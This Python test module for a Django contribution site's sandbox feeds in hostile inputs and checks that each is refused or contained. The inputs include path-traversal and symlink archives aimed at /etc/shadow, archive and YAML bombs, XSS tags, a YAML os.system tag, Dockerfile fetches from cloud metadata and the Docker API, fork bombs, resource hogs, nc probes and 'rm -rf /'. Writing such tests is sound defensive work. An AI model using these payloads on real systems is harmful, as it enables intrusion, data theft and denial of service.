"""The hostile submissions of tests/test_hostile_submissions.py: each case, and the harness that sends it in.

Every case goes the way a contributor's work goes: through the site's views (the editor, the upload,
the submit button) and, when it gets that far, through the sandbox worker's run on the gVisor engine.
A case returns its verdict: "refused" (stopped before anything ran, with the message the contributor
reads) or "contained" (it ran, and ended with the message its result gives).
"""

from __future__ import annotations

import gzip
import tarfile
from collections.abc import Callable
from dataclasses import dataclass

import yaml
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from catalog.submissions.models import Submission, SubmissionFile, SubmissionRun
from tests import factories
from tests.test_submission_archives import (
    GIB,
    MIB,
    deflated_zeros,
    file,
    gzip_of_zeros_after,
    one_member_zip,
    special,
    tar_header,
    tar_of,
    zip_of,
)
from worker.submission_run import verify_run

BUSYBOX = "busybox:1.35"


@dataclass(frozen=True)
class Verdict:
    outcome: str  # "refused" or "contained"
    message: str


class Harness:
    """One contributor's draft of a valid pattern, and the site's views to change and submit it."""

    def __init__(self, browser: Client, submission: Submission):
        self.browser, self.submission = browser, submission
        self.url = f"/contribute/{submission.pk}/"

    def messages(self, response) -> str:
        return " ".join(str(message) for message in get_messages(response.wsgi_request))

    def upload(self, name: str, data: bytes, example: str = "hello") -> Verdict:
        archive = SimpleUploadedFile(name, data)
        response = self.browser.post(f"{self.url}upload/", {"example": example, "archive": archive})
        said = self.messages(response)
        return Verdict("refused" if "refused" in said or "Nothing was uploaded" in said else "accepted", said)

    def put(self, path: str, content: str, executable: bool = False) -> str:
        data = {"path": path, "content": content, **({"executable": "on"} if executable else {})}
        return self.messages(self.browser.post(f"{self.url}files/", data))

    def save_readme(self, **fields) -> None:
        typed = {**self.submission.fields, "body": self.submission.body, **fields, "action": "save"}
        assert self.browser.post(self.url, typed).status_code in (200, 302)

    def page(self) -> str:
        return self.browser.get(self.url).content.decode()

    def problems(self) -> list[list[str]]:
        self.submission.refresh_from_db()
        return self.submission.problems

    def submit(self) -> Verdict | SubmissionRun:
        """The submit button: a refusal's message, or the run it queued."""
        said = self.messages(self.browser.post(f"{self.url}submit/"))
        run = self.submission.runs.first()
        return run if run else Verdict("refused", said)

    def submit_and_run(self) -> Verdict:
        """Submit, then the sandbox worker's run: refused before it ran, or its result contained."""
        queued = self.submit()
        if isinstance(queued, Verdict):
            return queued
        verify_run(queued.pk)
        queued.refresh_from_db()
        assert queued.finished, f"the run did not finish: {queued.state} {queued.detail}"
        results = [entry for entry in queued.results if isinstance(entry, dict)]
        said = "; ".join(
            f"{entry.get('reason') or entry.get('outcome')}: {entry.get('detail')}" for entry in results
        )
        refused = all(entry.get("reason") == "POLICY_REJECTED" for entry in results) and results
        return Verdict("refused" if refused else "contained", said or queued.detail)


def start(browser: Client, author, slug: str = "hostile-case") -> Harness:
    """A new pattern whose README checks clean and whose one example (busybox says hello) is proven."""
    submission = Submission.objects.create(
        author=author,
        kind="new",
        slug=slug,
        fields=factories.typed_readme(slug, symbol="Hc"),
        body=factories.body(),
    )
    harness = Harness(browser, submission)
    example(harness, dockerfile=factories.DOCKERFILE, scenario=factories.scenario())
    return harness


def example(harness: Harness, *, dockerfile: str, scenario: dict, extra: dict | None = None) -> None:
    """Write the example's files as rows (the editor's own path is tested in the content cases)."""
    submission = harness.submission
    files = {**factories.draft_example(dockerfile=dockerfile, scenario_data=scenario), **(extra or {})}
    for path, (content, executable) in files.items():
        SubmissionFile.objects.update_or_create(
            submission=submission, path=path, defaults={"content": content, "executable": executable}
        )


def run_case(harness: Harness, step: dict, *, dockerfile: str = factories.DOCKERFILE, **scenario) -> Verdict:
    """An example whose one step is `step` (expecting it to say hello), submitted and run in the sandbox."""
    data = {
        "title": "Hostile",
        "summary": "A submission that tries to get out of its sandbox.",
        "images": {"app": {"dockerfile": "Dockerfile"}},
        "steps": [step],
        "commands": [{"title": "Build it", "run": "docker build -t hostile ."}],
        "timeout": "60s",
        **scenario,
    }
    example(harness, dockerfile=dockerfile, scenario=data)
    return harness.submit_and_run()


def hello_run(**options) -> dict:
    """A run step that must say hello; a `command` replaces the image's entrypoint (hello.sh takes none)."""
    if "command" in options:
        options["entrypoint"] = options.pop("command")
    return {
        "run": {"image": "app", "timeout": "20s", **options},
        "expect": {"exit_code": 0, "output_contains": "hello"},
    }


# Every case: its name, its group, and what it does to a fresh harness.
CASES: dict[str, tuple[str, Callable[[Harness], Verdict]]] = {}


def case(group: str, name: str):
    def register(function: Callable[[Harness], Verdict]):
        CASES[name] = (group, function)
        return function

    return register


# Archives, through the upload form ------------------------------------------------------------

EXAMPLE_FILES = (file("Dockerfile", factories.DOCKERFILE.encode()), file("example.yaml", b"title: x\n"))


@case("archive", "zip slip in a tar.gz")
def _(h):
    return h.upload(
        "x.tar.gz", tar_of(*EXAMPLE_FILES, file("../../../etc/cron.d/evil", b"* * * * * root id\n"))
    )


@case("archive", "zip slip in a zip")
def _(h):
    return h.upload("x.zip", zip_of(("Dockerfile", b"FROM busybox:1.35\n"), ("../../evil.sh", b"id\n")))


@case("archive", "absolute path")
def _(h):
    return h.upload("x.tar.gz", tar_of(*EXAMPLE_FILES, file("/etc/passwd", b"root::0:0::/:/bin/sh\n")))


@case("archive", "symbolic link out of the tree")
def _(h):
    return h.upload("x.tar.gz", tar_of(*EXAMPLE_FILES, special("secrets", tarfile.SYMTYPE, "/etc/shadow")))


@case("archive", "hard link out of the tree")
def _(h):
    return h.upload(
        "x.tar.gz", tar_of(*EXAMPLE_FILES, special("passwd", tarfile.LNKTYPE, "../../etc/passwd"))
    )


@case("archive", "device file")
def _(h):
    return h.upload("x.tar.gz", tar_of(*EXAMPLE_FILES, special("disk", tarfile.BLKTYPE)))


@case("archive", "tar.gz bomb (a GiB of zeros)")
def _(h):
    return h.upload("bomb.tar.gz", gzip_of_zeros_after(tar_header("zeros", GIB), GIB))


@case("archive", "zip bomb (a GiB of zeros)")
def _(h):
    return h.upload("bomb.zip", one_member_zip(b"zeros", deflated_zeros(GIB), GIB, 0))


@case("archive", "10,000 files")
def _(h):
    return h.upload("many.tar.gz", tar_of(*(file(f"f{index}", b"") for index in range(10_000))))


@case("archive", "a 100 MB file")
def _(h):
    return h.upload("big.tar.gz", gzip_of_zeros_after(tar_header("big", 100 * MIB), 100 * MIB))


@case("archive", "odd file names (control characters, spaces)")
def _(h):
    return h.upload("odd.zip", zip_of(("Dockerfile", b"FROM busybox:1.35\n"), ("a\x1b[31mred name", b"x\n")))


@case("archive", "a path 20 folders deep")
def _(h):
    return h.upload("deep.tar.gz", tar_of(*EXAMPLE_FILES, file("/".join(["d"] * 20) + "/f", b"x\n")))


@case("archive", "a file that is not UTF-8")
def _(h):
    return h.upload("bin.tar.gz", tar_of(*EXAMPLE_FILES, file("blob.bin", b"\xff\xfe\x00binary")))


@case("archive", "an archive inside, for ADD to unpack (a gzip of 64 MiB of zeros)")
def _(h):
    # Example files are UTF-8 text without NUL, so no compressed or tar stream can reach an ADD.
    inner = gzip.compress(bytes(64 * MIB))
    return h.upload("x.tar.gz", tar_of(*EXAMPLE_FILES, file("payload.tar.gz", inner)))


@case("archive", "not an archive at all")
def _(h):
    return h.upload("x.zip", b"#!/bin/sh\nrm -rf /\n")


# Content: the README, the files and the YAML, through the editor --------------------------------

SCRIPT_TAG = "<script>alert('owned')</script>"


def shown_escaped(h: Harness, where: str) -> Verdict:
    page = (
        h.page()
        + h.browser.post(
            h.url, {**h.submission.fields, "body": h.submission.body, "action": "preview"}
        ).content.decode()
    )
    assert SCRIPT_TAG not in page, f"{where}: the script reached the page unescaped"
    assert "&lt;script&gt;" in page, f"{where}: the text is not shown at all"
    return Verdict("contained", f"{where} shown as text (&lt;script&gt;), never run")


@case("content", "script in the Markdown body")
def _(h):
    h.submission.refresh_from_db()
    h.save_readme(body=h.submission.body + f"\n\n{SCRIPT_TAG}\n\n<img src=x onerror=alert(1)>\n")
    h.submission.refresh_from_db()
    page = h.browser.post(
        h.url, {**h.submission.fields, "body": h.submission.body, "action": "preview"}
    ).content.decode()
    assert SCRIPT_TAG not in page and "onerror=alert" not in page.replace("onerror=alert(1)&gt;", "")
    return shown_escaped(h, "the body")


@case("content", "script in the front matter")
def _(h):
    h.save_readme(name=f"Name {SCRIPT_TAG}", summary=f"{SCRIPT_TAG} summary")
    h.submission.refresh_from_db()
    return shown_escaped(h, "the name and summary")


@case("content", "script in a file name")
def _(h):
    said = h.put(f"examples/hello/{SCRIPT_TAG}.sh", "echo\n")
    assert "was not saved" in said, said
    return Verdict("refused", said)


@case("content", "script in a file's content")
def _(h):
    h.put("examples/hello/notes.txt", SCRIPT_TAG)
    return shown_escaped(h, "the file's content")


def yaml_problem(h: Harness, text: str) -> Verdict:
    h.put("examples/hello/example.yaml", text)
    found = [row for row in h.problems() if row[0] == "examples/hello/example.yaml"]
    assert found, f"no problem beside example.yaml: {h.problems()}"
    queued = h.submit()
    assert isinstance(queued, Verdict), "a draft with problems was submitted"
    return Verdict("refused", f"{found[0][1]}: {found[0][2]}".strip(": "))


@case("content", "YAML alias bomb")
def _(h):
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    return yaml_problem(h, "\n".join(lines) + "\ntitle: *a8\n")


@case("content", "YAML Python tag")
def _(h):
    return yaml_problem(h, "title: !!python/object/apply:os.system ['touch /tmp/owned']\nsteps: []\n")


@case("content", "YAML nested 10,000 deep")
def _(h):
    return yaml_problem(h, "title: " + "[" * 10_000 + "]" * 10_000 + "\n")


@case("content", "YAML keys of mixed and unhashable types")
def _(h):
    return yaml_problem(h, "? [a, b]\n: 1\n1: x\ntitle: t\n")


@case("content", "a NaN and an infinite timeout")
def _(h):
    data = {**factories.scenario(), "timeout": ".nan"}
    data["steps"] = [{"run": {"image": "app", "timeout": ".inf"}, "expect": {"exit_code": 0}}]
    return yaml_problem(h, yaml.safe_dump(data).replace("'.nan'", ".nan").replace("'.inf'", ".inf"))


@case("content", "NUL bytes in a file")
def _(h):
    said = h.put("examples/hello/hello.sh", "#!/bin/sh\necho \x00 hi\n")
    assert "was not saved" in said, said
    return Verdict("refused", said)


@case("content", "invalid UTF-8 in an uploaded file")
def _(h):
    return h.upload("x.tar.gz", tar_of(*EXAMPLE_FILES, file("hello.sh", b"#!/bin/sh\necho \xc3\x28\n")))


# Dockerfiles: every rule of the untrusted policy (worker/policy.py) ------------------------------


def dockerfile_case(h: Harness, dockerfile: str, **scenario) -> Verdict:
    return run_case(h, hello_run(), dockerfile=dockerfile, **scenario)


@case("dockerfile", "FROM an image not in bases.yaml")
def _(h):
    return dockerfile_case(h, "FROM alpine:3.19\nCOPY hello.sh /hello.sh\n")


@case("dockerfile", "COPY --from an image not in bases.yaml")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nCOPY --from=docker:cli /usr/local/bin/docker /docker\n")


@case("dockerfile", "FROM --platform")
def _(h):
    return dockerfile_case(h, f"FROM --platform=linux/arm64 {BUSYBOX}\n")


@case("dockerfile", "ADD of a URL")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nADD http://127.0.0.1:2375/containers/json /x\n")


@case("dockerfile", "ADD of a URL through ARG")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nARG SRC=http://10.0.0.1/secret\nADD $SRC /x\n")


@case("dockerfile", "ADD of a URL through build_args")
def _(h):
    scenario_images = {"app": {"dockerfile": "Dockerfile", "build_args": {"SRC": "http://169.254.169.254/"}}}
    return dockerfile_case(h, f"FROM {BUSYBOX}\nARG SRC\nADD ${{SRC}} /x\n", images=scenario_images)


@case("dockerfile", "ADD of a git repository")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nADD git@github.com:moby/moby.git /src\n")


@case("dockerfile", "ONBUILD")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nONBUILD RUN id\n")


@case("dockerfile", "a parser directive (# syntax=)")
def _(h):
    return dockerfile_case(h, f"# syntax=evil.example/frontend:latest\nFROM {BUSYBOX}\n")


@case("dockerfile", "an unknown instruction")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nEXPLOIT now\n")


@case("dockerfile", "300 instructions")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\n" + "LABEL a=b\n" * 300)


@case("dockerfile", "a Dockerfile over 64 KiB")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\n" + "# padding\n" * 8000)


@case("dockerfile", "USER root")
def _(h):
    return dockerfile_case(
        h, f'FROM {BUSYBOX}\nUSER root\nCOPY hello.sh /hello.sh\nENTRYPOINT ["/hello.sh"]\n'
    )


@case("dockerfile", "a context of 60 files")
def _(h):
    extra = {f"examples/hello/f{index}.txt": ("x\n", False) for index in range(60)}
    example(h, dockerfile=factories.DOCKERFILE, scenario=factories.scenario(), extra=extra)
    return h.submit_and_run()


# Runs: what a built example does once it runs ------------------------------------------------


@case("run", "fork bomb in a run")
def _(h):
    return run_case(h, hello_run(command=["sh", "-c", "f() { f | f & }; f; sleep 30"]))


@case("run", "fork bomb in a build")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nRUN sh -c 'f() {{ f | f & }}; f; sleep 30'\n")


@case("run", "memory hog in a run")
def _(h):
    return run_case(h, hello_run(command=["sh", "-c", "x=aaaaaaaa; while true; do x=$x$x; done"]))


@case("run", "memory hog in a build")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nRUN x=aaaaaaaa; while true; do x=$x$x; done\n")


@case("run", "disk filler in a run")
def _(h):
    return run_case(
        h, hello_run(command=["sh", "-c", "dd if=/dev/zero of=/tmp/fill bs=1M count=4096; echo done"])
    )


@case("run", "disk filler in a build")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nRUN dd if=/dev/zero of=/fill bs=1M count=4096\n")


@case("run", "CPU spinner")
def _(h):
    return run_case(h, hello_run(command=["sh", "-c", "while :; do :; done"], timeout="5s"))


@case("run", "output flood")
def _(h):
    return run_case(h, hello_run(command=["sh", "-c", "yes flood-flood-flood-flood"]))


@case("run", "sleep ignoring SIGTERM")
def _(h):
    steps = [
        {
            "run": {
                "image": "app",
                "name": "stubborn",
                "detach": True,
                "entrypoint": ["sh", "-c", "trap '' TERM; sleep 1000"],
            }
        },
        {
            "stop": {"container": "stubborn", "timeout": "2s"},
            "expect": {"stopped_within": "1s", "exit_code": 0},
        },
    ]
    return run_case(h, steps[0], steps=steps)


@case("run", "network from a run")
def _(h):
    return run_case(h, hello_run(command=["sh", "-c", "nc -w 3 1.1.1.1 80 </dev/null && echo hello"]))


@case("run", "network from a build")
def _(h):
    return dockerfile_case(h, f"FROM {BUSYBOX}\nRUN nc -w 3 10.0.0.1 80 </dev/null\n")


@case("run", "a scenario network's gateway")
def _(h):
    command = [
        "sh",
        "-c",
        "ip route; nc -w 3 $(ip route | awk '/default/ {print $3}') 22 </dev/null && echo hello",
    ]
    return run_case(h, hello_run(command=command, network="backend"), networks=["backend"])


@case("run", "the Docker socket")
def _(h):
    return run_case(h, hello_run(), host_access=["docker-socket"])


@case("run", "privileged mode")
def _(h):
    return run_case(h, hello_run(privileged=True))


@case("run", "the host's PID namespace")
def _(h):
    return run_case(h, hello_run(pid="host"))


@case("run", "the host's network")
def _(h):
    return run_case(h, hello_run(network="host"))


@case("run", "user 0 in a run")
def _(h):
    return run_case(h, hello_run(user="0:0"))


@case("run", "a regular expression that backtracks for ever")
def _(h):
    step = {
        "run": {"image": "app", "entrypoint": ["sh", "-c", "printf 'a%.0s' $(seq 1 40); echo b"]},
        "expect": {"exit_code": 0, "output_matches": "^(a+)+$"},
    }
    return run_case(h, step)


@case("run", "terminal control in the output")
def _(h):
    verdict = run_case(h, hello_run(command=["sh", "-c", "printf '\\033]0;owned\\007\\033[2J hello\\n'"]))
    run = h.submission.runs.first()
    assert "\x1b" not in run.log and "\x07" not in run.log, "terminal control reached the stored log"
    return verdict
